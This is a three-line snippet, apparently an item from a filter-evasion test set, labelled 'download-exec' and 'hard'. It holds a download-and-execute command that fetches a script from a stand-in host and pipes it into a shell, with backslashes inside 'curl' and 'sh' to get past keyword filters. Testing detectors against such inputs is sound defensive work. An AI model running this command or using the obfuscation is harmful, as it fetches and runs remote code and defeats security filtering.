# evasion: backslashes inside the command names
# grade: hard; does: download-exec
c\u\r\l -s https://x.example/i | s\h
